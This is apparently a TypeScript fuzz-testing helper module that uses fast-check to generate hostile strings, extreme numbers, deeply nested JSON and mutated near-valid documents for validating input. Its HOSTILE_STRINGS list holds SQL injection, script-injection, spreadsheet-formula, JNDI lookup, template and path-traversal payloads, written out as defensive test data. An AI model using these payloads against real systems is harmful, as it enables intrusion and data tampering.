import fc from 'fast-check';

/** Strings an attacker or a broken export would send: SQL and HTML fragments, scripts, controls, formulas. */
export const HOSTILE_STRINGS = [
  "'; DROP TABLE members; --", "1' OR '1'='1", '<img src=x onerror=alert(1)>', '</script><script>alert(1)</script>',
  '=HYPERLINK("http://evil")', '+SUM(1;2)', '@cmd', '\u0000', '\u202e\u2066evil', '\ufeff', 'सदस्य समूह', '😀👨‍👩‍👧',
  '${jndi:ldap://x}', '{{7*7}}', '%s%n', '..\\..\\windows', '\r\n\r\n', 'null', 'undefined', 'NaN', 'Infinity', '-0',
  '1e309', '-1e309', '99999999999999999999999', '0x1F', '٣٤٥', '१२३', 'true', '2026-02-30', '9999-12-31T99:99:99Z',
];

/** Text of every sort: hostile constants, arbitrary unicode, very long runs. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.string({ unit: 'grapheme', maxLength: 15 }),
  fc.integer({ min: 1_000, max: 20_000 }).map((n) => 'ज'.repeat(n)),
);

/** Numbers at and past every boundary a money or volume field has. */
export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true }),
  fc.constantFrom(1e308, -1e308, 2 ** 53, 2 ** 53 + 2, -(2 ** 63), 1e-300, 0.005, -0, 0.1 + 0.2, 100_000.001),
);

/** An array nested `depth` levels deep, as JSON text. */
export const nestedJson = (depth: number): string => `${'['.repeat(depth)}1${']'.repeat(depth)}`;

/** Any JSON-ish value a hostile document may hold in a field. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileText,
  hostileNumber,
  fc.boolean(),
  fc.constant(null),
  fc.constant({}),
  fc.constant([]),
  fc.integer({ min: 50, max: 400 }).map((depth) => JSON.parse(nestedJson(depth)) as unknown),
  fc.jsonValue({ maxDepth: 3 }),
);

/** Every path to a value inside a JSON document: ['bonuses', 0, 'rate'], … */
export function pathsOf(document: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  if (document === null || typeof document !== 'object') return [prefix];
  const entries = Array.isArray(document) ? document.map((value, index) => [index, value] as const) : Object.entries(document);
  return [prefix, ...entries.flatMap(([key, value]) => pathsOf(value, [...prefix, key]))];
}

/** A copy of the document with the value at the path replaced (or, for undefined, removed). */
export function replaceAt(document: unknown, path: (string | number)[], value: unknown): unknown {
  if (path.length === 0) return value;
  const copy: any = Array.isArray(document) ? [...document] : { ...(document as object) };
  const [head, ...rest] = path;
  if (rest.length === 0 && value === undefined) {
    if (Array.isArray(copy)) copy.splice(head as number, 1);
    else delete copy[head!];
  } else {
    copy[head!] = replaceAt(copy[head!], rest, value);
  }
  return copy;
}

/** Near-valid documents: a valid one with one to three values swapped for hostile ones, removed, or given an unknown sibling. */
export function mutated(document: unknown): fc.Arbitrary<unknown> {
  const paths = pathsOf(document);
  const change = fc.tuple(fc.constantFrom(...paths), fc.oneof(hostileValue, fc.constant(undefined)), fc.option(hostileText, { nil: undefined }));
  return fc.array(change, { minLength: 1, maxLength: 3 }).map((changes) =>
    changes.reduce<unknown>((doc, [path, value, extraKey]) => {
      const next = replaceAt(doc, path, value);
      if (extraKey === undefined || path.length === 0) return next;
      return replaceAt(next, [...path.slice(0, -1), extraKey], 1);
    }, document),
  );
}
